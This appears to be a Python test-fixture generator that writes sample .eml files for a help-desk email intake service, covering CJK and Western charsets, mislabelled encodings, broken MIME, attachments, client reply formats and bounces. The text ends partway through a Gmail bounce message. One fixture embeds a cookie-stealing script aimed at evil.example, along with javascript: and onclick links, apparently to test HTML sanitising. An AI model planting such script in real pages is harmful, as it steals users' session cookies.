"""How the corpus's .eml files were first written: ``python -m services.intake_email.tests.corpus.generate``.

The committed .eml files are the corpus (their bytes are the point: CRLF or bare LF, 8-bit
headers, charsets); this script only documents how each was made and rewrites them all when run.
Every message is written for this project, shaped like what those clients and servers send.
Expected fields live in expected.yaml, written by hand.
"""
from __future__ import annotations

import base64
import quopri
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
US = "support@ticketmesh.test"
DATE = "Sun, 22 Nov 2026 09:14:03 +0800"
# Our notifier's Message-IDs (shared.mail_tokens, dev secret) for tickets TM-10001.. TM-10008.
OUR_ID = {
    1: "<tm.TM-10001.n1.a4t5puxfatgk@ticketmesh.test>",
    2: "<tm.TM-10002.n1.h53ah37nj7no@ticketmesh.test>",
    3: "<tm.TM-10003.n1.siourjxmiivw@ticketmesh.test>",
    4: "<tm.TM-10004.n1.2m7mb7ixpnrf@ticketmesh.test>",
    5: "<tm.TM-10005.n1.krnkeu6zaasb@ticketmesh.test>",
    6: "<tm.TM-10006.n1.pmvjeenztzy3@ticketmesh.test>",
    7: "<tm.TM-10007.n1.g7lsdjdc36yr@ticketmesh.test>",
    8: "<tm.TM-10008.n1.sqc3jf4wczyk@ticketmesh.test>",
}
# A tiny PNG (1x1) and a few bytes standing in for other binary attachments.
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TNEF = b"\x78\x9f\x3e\x22" + bytes(range(256)) * 3  # TNEF signature, then opaque bytes

MESSAGES: dict[str, bytes] = {}


def b(text: str, charset: str = "utf-8") -> str:
    """One RFC 2047 B encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def q(text: str, charset: str = "utf-8") -> str:
    """One RFC 2047 Q encoded word."""
    data = quopri.encodestring(text.encode(charset), header=True).decode().replace("=\n", "")
    return f"=?{charset}?Q?{data}?="


def b64_lines(data: bytes) -> str:
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76))


def qp(text: str, charset: str) -> str:
    return quopri.encodestring(text.encode(charset)).decode()


def add(name: str, head: str | bytes, body: str | bytes = b"", *, line_end: bytes = b"\r\n") -> None:
    """Header block + body, every line end made ``line_end`` (most mail arrives with CRLF)."""
    head_b = head.encode("ascii") if isinstance(head, str) else head
    body_b = body.encode("ascii") if isinstance(body, str) else body
    raw = head_b.strip(b"\n") + b"\n\n" + body_b.lstrip(b"\n")
    raw = raw.replace(b"\r\n", b"\n").replace(b"\n", line_end)
    MESSAGES[name] = raw


# --- Chinese, Japanese, Korean and Western charsets -----------------------------------------

add("zh-gbk-order.eml", f"""
Return-Path: <zhang.wei@example.cn>
From: {b("张伟", "gbk")} <zhang.wei@example.cn>
To: {US}
Subject: {b("订单迟迟未发货，请帮忙查询", "gbk")}
Date: {DATE}
Message-ID: <202611220914030001@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="GBK"
Content-Transfer-Encoding: 8bit
""", "您好：\n\n我在11月15日下的订单（订单号 20261115-8842）到现在还没有发货，\n麻烦帮忙查一下物流情况。\n\n谢谢！\n张伟\n".encode("gbk"))

add("zh-gb2312-with-gbk-only-chars.eml", f"""
From: =?gb2312?B?{base64.b64encode("朱镕".encode("gbk")).decode()}?= <zhu.rong@example.com.cn>
To: {US}
Subject: =?gb2312?B?{base64.b64encode("关于陶喆演唱会门票退款（王堃）".encode("gbk")).decode()}?=
Date: {DATE}
Message-ID: <5f2c.gb2312@example.com.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=gb2312
Content-Transfer-Encoding: base64
""", b64_lines("你好，我买了两张陶喆演唱会的门票，因故无法前往，请问能否退款？\n联系人：王堃\n".encode("gbk")) + "\n")

add("zh-gb18030-four-byte.eml", f"""
From: {b("吉野家会员", "gb18030")} <member@yoshi.example.cn>
To: {US}
Subject: {b("𠮷野家积分没有到账", "gb18030")}
Date: {DATE}
Message-ID: <gb18030-4byte@yoshi.example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=GB18030
Content-Transfer-Encoding: 8bit
""", "我在𠮷野家消费了 88 元，积分一直没有到账。\n".encode("gb18030"))

add("zh-big5-return.eml", f"""
From: {b("陳小姐", "big5")} <chen.mei@example.com.tw>
To: {US}
Subject: {b("請問退貨流程", "big5")}
Date: Sun, 22 Nov 2026 10:02:11 +0800
Message-ID: <big5.0001@example.com.tw>
MIME-Version: 1.0
Content-Type: text/plain; charset="big5"
Content-Transfer-Encoding: quoted-printable
""", qp("您好，我上週購買的外套尺寸不合，請問退貨流程是什麼？\n謝謝。\n", "big5"))

add("ja-iso-2022-jp.eml", f"""
From: {b("田中 花子", "iso-2022-jp")} <hanako.tanaka@example.jp>
To: {US}
Subject: {b("注文の配送について", "iso-2022-jp")}
Date: Sun, 22 Nov 2026 11:30:00 +0900
Message-ID: <20261122113000.jis@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
""", "お世話になっております。\n先週注文した商品がまだ届いておりません。\n確認をお願いいたします。\n田中\n".encode("iso-2022-jp"))

add("ja-shift-jis-nec-chars.eml", f"""
From: {b("佐藤 一郎", "shift_jis")} <ichiro.sato@example.co.jp>
To: {US}
Subject: {b("①請求書の再発行", "cp932").replace("cp932", "Shift_JIS")}
Date: Sun, 22 Nov 2026 11:45:00 +0900
Message-ID: <sjis.7781@example.co.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=Shift_JIS
Content-Transfer-Encoding: 8bit
""", "請求書を紛失しました。①と②の再発行をお願いします。\n".encode("cp932"))

add("ko-euc-kr-cancel.eml", f"""
From: {b("김민수", "euc-kr")} <minsu.kim@example.co.kr>
To: {US}
Subject: {b("주문 취소 요청", "euc-kr")}
Date: Sun, 22 Nov 2026 12:00:00 +0900
Message-ID: <euckr.55@example.co.kr>
MIME-Version: 1.0
Content-Type: text/plain; charset=euc-kr
Content-Transfer-Encoding: base64
""", b64_lines("안녕하세요. 어제 주문한 상품을 취소하고 싶습니다.\n".encode("euc-kr")) + "\n")

add("fr-iso-8859-1.eml", f"""
From: {q("Hélène Dubois", "iso-8859-1")} <helene.dubois@example.fr>
To: {US}
Subject: {q("Réclamation : commande non reçue", "iso-8859-1")}
Date: Sun, 22 Nov 2026 02:14:03 +0100
Message-ID: <fr.8859@example.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable
""", qp("Bonjour,\n\nma commande n'est toujours pas arrivée. Pourriez-vous vérifier ?\n\nCordialement,\nHélène\n", "iso-8859-1"))

add("en-windows-1252-labelled-latin1.eml", f"""
From: Mark O'Brien <mark.obrien@example.ie>
To: {US}
Subject: =?iso-8859-1?Q?=93Refund=94_for_order_=80120?=
Date: Sun, 22 Nov 2026 01:14:03 +0000
Message-ID: <cp1252.as.latin1@example.ie>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit
""", "I was charged \u20ac120 twice \u2013 that\u2019s \u201cnot OK\u201d.\n".encode("cp1252"))

add("mislabelled-utf8-as-gb2312.eml", f"""
From: Li Na <li.na@example.com>
To: {US}
Subject: =?gb2312?B?{base64.b64encode("发票抬头写错了".encode("utf-8")).decode()}?=
Date: {DATE}
Message-ID: <mislabel.utf8@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=gb2312
Content-Transfer-Encoding: 8bit
""", "发票抬头写错了，应该是“上海某某科技有限公司”。\n".encode("utf-8"))

add("mislabelled-gbk-as-utf8.eml", f"""
From: Wang Qiang <wang.qiang@example.cn>
To: {US}
Subject: =?utf-8?B?{base64.b64encode("账号被锁定".encode("gbk")).decode()}?=
Date: {DATE}
Message-ID: <mislabel.gbk@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
""", "我的账号被锁定了，登录时提示密码错误次数过多。\n".encode("gbk"))

add("raw-8bit-headers-utf8.eml", (
    "From: 刘洋 <liu.yang@example.com>\n"
    f"To: {US}\n"
    "Subject: 发货地址需要修改\n"
    f"Date: {DATE}\n"
    "Message-ID: <raw8bit.utf8@example.com>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=utf-8\n"
    "Content-Transfer-Encoding: 8bit\n").encode("utf-8"),
    "请把收货地址改成：北京市朝阳区建国路 88 号。\n".encode("utf-8"))

add("raw-8bit-headers-gbk.eml", (
    "From: 赵磊 <zhao.lei@example.net.cn>\n"
    f"To: {US}\n"
    "Subject: 退款一直没有到账\n"
    f"Date: {DATE}\n"
    "Message-ID: <raw8bit.gbk@example.net.cn>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=gbk\n"
    "Content-Transfer-Encoding: 8bit\n").encode("gbk"),
    "退款申请已经通过一周了，钱还没有退回到我的银行卡。\n".encode("gbk"))

add("unknown-charset-label.eml", f"""
From: Old Client <user@legacy.example>
To: {US}
Subject: Printer driver question
Date: {DATE}
Message-ID: <unknown.charset@legacy.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-user-defined-legacy"
Content-Transfer-Encoding: 7bit
""", "Where can I download the driver for the P-200 printer?\n")

add("utf8-split-encoded-words-emoji.eml", f"""
From: =?UTF-8?B?6buE?= =?UTF-8?B?5pmT5piO?= <huang.xm@example.com>
To: {US}
Subject: =?UTF-8?B?5pSv5LuY5aSx6LSl?= =?UTF-8?B?8J+Y?=
 =?UTF-8?B?ng==?= =?UTF-8?Q?_order_7731?=
Date: {DATE}
Message-ID: <split.words@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64
""", b64_lines("付款时一直提示失败 😞\n".encode()) + "\n")

# --- broken MIME ----------------------------------------------------------------------------

add("broken-multipart-without-boundary.eml", f"""
From: someone@example.org
To: {US}
Subject: see attached
Date: {DATE}
Message-ID: <noboundary@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed
""", "This is a multi-part message in MIME format.\n\n--abc\nContent-Type: text/plain\n\nhello\n--abc--\n")

add("broken-boundary-never-appears.eml", f"""
From: someone@example.org
To: {US}
Subject: report
Date: {DATE}
Message-ID: <wrongboundary@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_1_declared"
""", "------=_Part_9_other\nContent-Type: text/plain\n\nthe real text\n------=_Part_9_other--\n")

add("broken-truncated-attachment.eml", f"""
From: Sun Hao <sun.hao@example.cn>
To: {US}
Subject: {b("截图在附件里")}
Date: {DATE}
Message-ID: <truncated.1@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=-trunc-="
""", f"""--=-trunc-=
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64_lines("APP 闪退，截图在附件里。".encode())}

--=-trunc-=
Content-Type: image/png; name="screenshot.png"
Content-Disposition: attachment; filename="screenshot.png"
Content-Transfer-Encoding: base64

{b64_lines(PNG * 4)[:90]}""")

add("no-sender-at-all.eml", f"""
To: {US}
Subject: who am I
Date: {DATE}
Message-ID: <nosender@example.org>
""", "No From, Sender, Reply-To or Return-Path.\n")

# --- HTML, inline images, attachments -------------------------------------------------------

add("html-only-script-remote-images.eml", f"""
From: Promo Partner <partner@shop.example>
To: {US}
Subject: Invoice 8812 looks wrong
Date: {DATE}
Message-ID: <htmlonly.1@shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable
""", qp("""<html><head><style>p{color:red}</style><script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body onload="track()"><p>Hello, invoice <b>8812</b> charges us twice for shipping.</p>
<img src="https://tracker.example/open.gif?id=42" width="1" height="1">
<p><a href="javascript:alert(1)" onclick="steal()">click</a> or see <a href="https://shop.example/inv/8812">the invoice</a>.</p>
</body></html>
""", "utf-8"))

add("inline-cid-image.eml", f"""
From: Zhou Min <zhou.min@example.com>
To: {US}
Subject: {b("登录页面报错截图")}
Date: {DATE}
Message-ID: <related.cid@example.com>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel-01"; type="multipart/alternative"
""", f"""--rel-01
Content-Type: multipart/alternative; boundary="alt-01"

--alt-01
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64_lines("登录时报错，截图如下：[image: error.png]".encode())}
--alt-01
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64_lines('<div>登录时报错，截图如下：<img src="cid:err-shot-01@example.com" alt="error.png"></div>'.encode())}
--alt-01--

--rel-01
Content-Type: image/png; name="error.png"
Content-Disposition: inline; filename="error.png"
Content-ID: <err-shot-01@example.com>
Content-Transfer-Encoding: base64

{b64_lines(PNG)}
--rel-01--
""")

_INVOICE_2231 = urllib.parse.quote("2026年11月发票.pdf".encode())
_CONTRACT = "采购合同（最终版）.docx".encode()
_STATEMENT = "日期,金额\n2026-11-01,100\n".encode("gbk")
add("attachments-rfc2231-chinese-names.eml", f"""
From: Qian Jun <qian.jun@example.com>
To: {US}
Subject: {b("发票和合同")}
Date: {DATE}
Message-ID: <rfc2231.names@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix-2231"
""", f"""--mix-2231
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64_lines("附件是发票和合同，请查收。".encode())}
--mix-2231
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''{_INVOICE_2231}
Content-Transfer-Encoding: base64

{b64_lines(PDF)}
--mix-2231
Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document
Content-Disposition: attachment;
 filename*0*=UTF-8''{urllib.parse.quote(_CONTRACT[:12])};
 filename*1*={urllib.parse.quote(_CONTRACT[12:])}
Content-Transfer-Encoding: base64

{b64_lines(b"PK" + bytes(200))}
--mix-2231
Content-Type: text/csv; name="{b("对账单.csv", "gbk")}"
Content-Disposition: attachment; filename="{b("对账单.csv", "gbk")}"
Content-Transfer-Encoding: base64

{b64_lines(_STATEMENT)}
--mix-2231--
""")

add("outlook-winmail-dat.eml", f"""
From: Wang Fang <wang.fang@contoso.com>
To: {US}
Subject: Signed contract attached
Date: Sun, 22 Nov 2026 01:14:03 +0000
Message-ID: <DM6PR11MB0001.winmail@DM6PR11MB0001.namprd11.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_000_DM6PR11MB0001_"
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <DM6PR11MB0001.winmail@DM6PR11MB0001.namprd11.prod.outlook.com>
""", f"""--_000_DM6PR11MB0001_
Content-Type: text/plain; charset="us-ascii"

Please find the signed contract attached.

--_000_DM6PR11MB0001_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64_lines(TNEF)}
--_000_DM6PR11MB0001_--
""")

# --- replies from mail clients (quoted history must not be the reply) ----------------------

add("reply-outlook-en.eml", f"""
From: Wang Fang <wang.fang@contoso.com>
To: TicketMesh Support <{US}>
Subject: RE: [#TM-10001] We received your request
Thread-Topic: [#TM-10001] We received your request
Thread-Index: AQHbPZ2x1a2b3c4d5e6f7g8h9i0j
Date: Sun, 22 Nov 2026 02:20:00 +0000
Message-ID: <SN6PR01MB4321.reply@SN6PR01MB4321.namprd01.prod.outlook.com>
In-Reply-To: {OUR_ID[1]}
References: {OUR_ID[1]}
X-Auto-Response-Suppress: DR, RN, NRN, OOF, AutoReply
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
""", qp(f"""The export still fails with error 0x80040154 after the update.

Regards,
Wang Fang

-----Original Message-----
From: TicketMesh Support <{US}>
Sent: Sunday, November 22, 2026 1:14 AM
To: Wang Fang <wang.fang@contoso.com>
Subject: [#TM-10001] We received your request

Hello, we received your request and will answer soon.
""", "utf-8"))

add("reply-outlook-zh.eml", f"""
From: {b("李娜")} <li.na@example.com>
To: "TicketMesh Support" <{US}>
Subject: {b("答复: [#TM-10002] 我们已收到您的请求")}
Thread-Topic: {b("[#TM-10002] 我们已收到您的请求")}
Date: {DATE}
Message-ID: <TY2PR06MB1234.zhreply@TY2PR06MB1234.apcprd06.prod.outlook.com>
In-Reply-To: {OUR_ID[2]}
References: {OUR_ID[2]}
MIME-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64
""", b64_lines(f"""问题还在，今天早上又出现了两次。

李娜

发件人: TicketMesh Support <{US}>
发送时间: 2026年11月22日 9:14
收件人: 李娜 <li.na@example.com>
主题: [#TM-10002] 我们已收到您的请求

您好，我们已收到您的请求，会尽快答复。
""".encode("gb18030")) + "\n")

add("reply-gmail.eml", f"""
From: Chen Jie <chen.jie@gmail.com>
To: TicketMesh Support <{US}>
Subject: Re: [#TM-10003] We received your request
Date: Sun, 22 Nov 2026 09:40:12 +0800
Message-ID: <CAJx9Q=vNz3gmailreply0001@mail.gmail.com>
In-Reply-To: {OUR_ID[3]}
References: {OUR_ID[3]}
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6"
""", f"""--000000000000a1b2c3d4e5f6
Content-Type: text/plain; charset="UTF-8"

Thanks, the new password works now.

On Sun, Nov 22, 2026 at 9:14 AM TicketMesh Support <{US}> wrote:

> Hello, we received your request and will answer soon.
>

--000000000000a1b2c3d4e5f6
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Thanks, the new password works now.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sun, Nov 22, 2026 at 9:14 AM TicketMesh Support &lt;<a href="mailto:{US}">{US}</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hello, we received your request and will answer soon.</blockquote></div>

--000000000000a1b2c3d4e5f6--
""")

add("reply-apple-mail.eml", f"""
From: Emma Stone <emma@example.org>
To: TicketMesh Support <{US}>
Subject: Re: [#TM-10004] We received your request
Date: Sun, 22 Nov 2026 10:01:00 +0800
Message-Id: <8F2A1C3B-11D2-4E5F-9A0B-APPLEMAIL01@example.org>
In-Reply-To: {OUR_ID[4]}
References: {OUR_ID[4]}
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
X-Mailer: iPhone Mail (21A329)
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
""", qp(f"""Yes, please cancel the second order.

Sent from my iPhone

> On 22 Nov 2026, at 09:14, TicketMesh Support <{US}> wrote:
>=20
> Hello, we received your request and will answer soon.
""", "utf-8").replace("=3D20", "=20"))

add("reply-foxmail.eml", f"""
From: "{b("孙悦", "gbk")}" <sun.yue@foxmail.com>
To: "TicketMesh Support" <{US}>
Subject: {b("回复：[#TM-10005] 我们已收到您的请求", "gbk")}
Date: {DATE}
Message-ID: <tencent_3F2A1B0C0D0E0F@qq.com>
In-Reply-To: {OUR_ID[5]}
References: {OUR_ID[5]}
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Content-Type: text/plain; charset="gbk"
Content-Transfer-Encoding: base64
""", b64_lines(f"""好的，我明天上午在家，可以上门取件。

孙悦

------------------ 原始邮件 ------------------
发件人: "TicketMesh Support"<{US}>;
发送时间: 2026年11月22日(星期天) 上午9:14
收件人: "孙悦"<sun.yue@foxmail.com>;
主题: [#TM-10005] 我们已收到您的请求

您好，我们已收到您的请求，会尽快答复。
""".encode("gbk")) + "\n")

add("reply-qq-mail.eml", f"""
From: "{b("小周", "gb18030")}" <123456789@qq.com>
To: "{US}" <{US}>
Subject: {b("回复：[#TM-10006] 我们已收到您的请求", "gb18030")}
Date: {DATE}
Message-ID: <tencent_A1B2C3D4E5F6@qq.com>
In-Reply-To: {OUR_ID[6]}
References: {OUR_ID[6]}
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
X-QQ-Mailer: QQMail 2.x
Mime-Version: 1.0
Content-Type: multipart/alternative; boundary="----=_NextPart_6560A1B2_0C0D0E0F_1A2B3C4D"
""", f"""This is a multi-part message in MIME format.

------=_NextPart_6560A1B2_0C0D0E0F_1A2B3C4D
Content-Type: text/plain; charset="gb18030"
Content-Transfer-Encoding: base64

{b64_lines(f'''发票已经收到了，谢谢！


------------------&nbsp;原始邮件&nbsp;------------------
发件人: "TicketMesh Support"<{US}>;
发送时间:&nbsp;2026年11月22日(星期天) 上午9:14
收件人:&nbsp;"小周"<123456789@qq.com>;
主题:&nbsp;[#TM-10006] 我们已收到您的请求

您好，我们已收到您的请求，会尽快答复。
'''.encode("gb18030"))}

------=_NextPart_6560A1B2_0C0D0E0F_1A2B3C4D
Content-Type: text/html; charset="gb18030"
Content-Transfer-Encoding: base64

{b64_lines(f'''<meta http-equiv="Content-Type" content="text/html; charset=GB18030"><div>发票已经收到了，谢谢！</div><div><br></div><div style="font-size: 12px;font-family: Arial Narrow;padding:2px 0 2px 0;">------------------&nbsp;原始邮件&nbsp;------------------</div><div style="font-size: 12px;background:#efefef;padding:8px;"><div><b>发件人:</b>&nbsp;"TicketMesh Support"&lt;{US}&gt;;</div><div><b>主题:</b>&nbsp;[#TM-10006] 我们已收到您的请求</div></div><div><br></div>您好，我们已收到您的请求，会尽快答复。'''.encode("gb18030"))}

------=_NextPart_6560A1B2_0C0D0E0F_1A2B3C4D--
""")

add("reply-163-mail.eml", f"""
From: {b("郑浩", "gbk")} <zheng_hao@163.com>
To: {US}
Subject: {b("Re:[#TM-10007] 我们已收到您的请求", "gbk")}
Date: {DATE}
Message-ID: <5a1b2c3d.4e5f.18c0a1b2c3d.Coremail.zheng_hao@163.com>
In-Reply-To: {OUR_ID[7]}
References: {OUR_ID[7]}
X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20230109(dcb5de15)
X-Coremail-Locale: zh_CN
MIME-Version: 1.0
Content-Type: text/plain; charset=GBK
Content-Transfer-Encoding: 8bit
""", f"""已经重新下单了，这个工单可以关闭。

在 2026-11-22 09:14:03，"TicketMesh Support" <{US}> 写道：
>您好，我们已收到您的请求，会尽快答复。
""".encode("gbk"))

# --- bounces (delivery status notifications) ------------------------------------------------

add("bounce-postfix-hard-5.1.1.eml", f"""
Return-Path: <>
Delivered-To: {US}
Received: by mx1.example.com (Postfix) id 4Nz8Qk1Yq2z9sT; Sun, 22 Nov 2026 09:14:08 +0800 (CST)
Date: Sun, 22 Nov 2026 09:14:08 +0800 (CST)
From: MAILER-DAEMON@mx1.example.com (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {US}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4Nz8Qk1Yq2z9sT.1763774048/mx1.example.com"
Content-Transfer-Encoding: 8bit
Message-Id: <20261122011408.4Nz8Qk1Yq2z9sT@mx1.example.com>
""", f"""This is a MIME-encapsulated message.

--4Nz8Qk1Yq2z9sT.1763774048/mx1.example.com
Content-Description: Notification
Content-Type: text/plain; charset=utf-8

This is the mail system at host mx1.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<li.na@example.com>: host mx.example.com[203.0.113.25] said: 550 5.1.1
    <li.na@example.com>: Recipient address rejected: User unknown in local
    recipient table (in reply to RCPT TO command)

--4Nz8Qk1Yq2z9sT.1763774048/mx1.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.example.com
X-Postfix-Queue-ID: 4Nz8Qk1Yq2z9sT
X-Postfix-Sender: rfc822; {US}
Arrival-Date: Sun, 22 Nov 2026 09:14:03 +0800 (CST)

Final-Recipient: rfc822; li.na@example.com
Original-Recipient: rfc822;li.na@example.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.com
Diagnostic-Code: smtp; 550 5.1.1 <li.na@example.com>: Recipient address
    rejected: User unknown in local recipient table

--4Nz8Qk1Yq2z9sT.1763774048/mx1.example.com
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

Return-Path: <{US}>
From: TicketMesh Support <{US}>
To: li.na@example.com
Subject: [#TM-10001] We received your request
Message-ID: {OUR_ID[1]}
Auto-Submitted: auto-replied

--4Nz8Qk1Yq2z9sT.1763774048/mx1.example.com--
""", line_end=b"\n")  # as a Maildir file holds it: bare LF

add("bounce-exim-soft-4.2.2.eml", f"""
Return-path: <>
Received: from mail by mx.example.net with local (Exim 4.96)
\tid 1vAbCd-000123-4x; Sun, 22 Nov 2026 01:20:00 +0000
X-Failed-Recipients: full.box@example.net
Auto-Submitted: auto-replied
From: Mail Delivery System <Mailer-Daemon@mx.example.net>
To: {US}
Content-Type: multipart/report; report-type=delivery-status; boundary=1763774400-eximdsn-1804289383
MIME-Version: 1.0
Subject: Warning: message 1vAbCc-000120-2q delayed 24 hours
Message-Id: <E1vAbCd-000123-4x@mx.example.net>
Date: Sun, 22 Nov 2026 01:20:00 +0000
""", f"""--1763774400-eximdsn-1804289383
Content-type: text/plain; charset=us-ascii

This message was created automatically by mail delivery software.
A message that you sent has not yet been delivered to one or more of its
recipients after more than 24 hours on the queue on mx.example.net.

  full.box@example.net
    Mailbox is full: retry timeout not exceeded

No action is required on your part. Delivery attempts will continue for
some time, and this warning may be repeated at intervals if the message
remains undelivered. Eventually the mail delivery software will give up,
and when that happens, the message will be returned to you.

--1763774400-eximdsn-1804289383
Content-type: message/delivery-status

Reporting-MTA: dns; mx.example.net

Action: delayed
Final-Recipient: rfc822;full.box@example.net
Status: 4.2.2
Diagnostic-Code: smtp; 452 4.2.2 Mailbox full
Will-Retry-Until: Sun, 29 Nov 2026 01:20:00 +0000

--1763774400-eximdsn-1804289383
Content-type: text/rfc822-headers

Return-path: <{US}>
From: TicketMesh Support <{US}>
To: full.box@example.net
Subject: [#TM-10002] An agent replied
Message-ID: {OUR_ID[2]}

--1763774400-eximdsn-1804289383--
""")

add("bounce-exchange-online-5.1.10.eml", f"""
From: Microsoft Outlook <postmaster@contoso.onmicrosoft.com>
To: {US}
Date: Sun, 22 Nov 2026 01:15:02 +0000
Content-Language: en-US
Message-ID: <5b1e6c2a-aaaa-bbbb-cccc-3d4e5f607182@SN6PR01MB.namprd01.prod.outlook.com>
In-Reply-To: {OUR_ID[3]}
References: {OUR_ID[3]}
Subject: Undeliverable: [#TM-10003] We received your request
Auto-Submitted: auto-replied
X-MS-Exchange-Message-Is-Ndr:
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="f1e2d3c4-b5a6-9788-6957-4a3b2c1d0e0f"
""", f"""--f1e2d3c4-b5a6-9788-6957-4a3b2c1d0e0f
Content-Type: multipart/alternative; differences=Content-Type;
\tboundary="0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9"

--0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
Content-Type: text/plain; charset="us-ascii"

Your message to nobody@contoso.com couldn't be delivered.
nobody wasn't found at contoso.com.

Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'

--0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
Content-Type: text/html; charset="us-ascii"

<html><body><p>Your message to <b>nobody@contoso.com</b> couldn't be delivered.</p></body></html>

--0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9--

--f1e2d3c4-b5a6-9788-6957-4a3b2c1d0e0f
Content-Type: message/delivery-status

Reporting-MTA: dns;SN6PR01MB4321.namprd01.prod.outlook.com
Received-From-MTA: dns;mail.ticketmesh.test
Arrival-Date: Sun, 22 Nov 2026 01:15:00 +0000

Original-Recipient: rfc822;nobody@contoso.com
Final-Recipient: rfc822;nobody@contoso.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--f1e2d3c4-b5a6-9788-6957-4a3b2c1d0e0f
Content-Type: message/rfc822

From: TicketMesh Support <{US}>
To: <nobody@contoso.com>
Subject: [#TM-10003] We received your request
Date: Sun, 22 Nov 2026 01:14:58 +0000
Message-ID: {OUR_ID[3]}
Content-Type: text/plain; charset="utf-8"

Hello, we received your request and will answer soon.

--f1e2d3c4-b5a6-9788-6957-4a3b2c1d0e0f--
""")

add("bounce-gmail-5.1.1.eml", f"""
Return-Path: <>
Received: by 2002:a05:6a10:1234:b0:5ab:cdef:1234 with SMTP id x12csp123456pxy;
        Sat, 21 Nov 2026 17:14:05 -0800 (PST)
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: {US}
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
References: {OUR_ID[4]}
In-Reply-To: {OUR_ID[4]}
X-Failed-Recipients: no.such.user.2026@gmail.com
Message-ID: <6560a1b2.170a0220.abcd.0001.GMR@mx.google.com>
Date: Sat, 21 Nov 2026 17:14:05 -0800 (PST)
MIME-Version: 1.0
Content-Type: multipart/report; boundary="000000000000fa1b2c3d4e5f60"; report-type=delivery-status
""", f"""--000000000000fa1b2c3d4e5f60
Content-Type: multipart/related; boundary="000000000000fa1b2c3d4e5f6a"

--000000000000fa1b2c3d4e5f6a
Content-Type: multipart/alternative; boundary="000000000000fa1b2c3d4e5f6b"

--000000000000fa1b2c3d4e5f6b
Content-Type: text/plain; charset="UTF-8"


** Address not found **

Your message wasn't delivered to no.such.user.2026@gmail.com because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist.

--000000000000fa1b2c3d4e5f6b--
